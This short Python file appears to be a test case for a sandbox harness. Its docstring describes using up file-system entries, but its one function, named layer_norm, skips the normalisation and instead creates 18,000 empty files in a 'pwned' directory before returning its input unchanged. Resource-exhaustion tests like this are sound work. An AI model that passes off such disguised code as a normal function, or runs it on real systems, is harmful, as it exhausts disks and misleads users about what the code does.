"""Makes files without any content, each of which takes an entry that the file system has a limited number of.

Unconfined: never, nothing but the time limits how many there are
Outcome: filled the disk|did not return within|took longer than
"""

import os


def layer_norm(x, gamma, beta, eps=1e-5):
    os.makedirs("pwned", exist_ok=True)
    for number in range(18_000):
        os.close(os.open(f"pwned/{number}", os.O_CREAT | os.O_WRONLY))
    return x
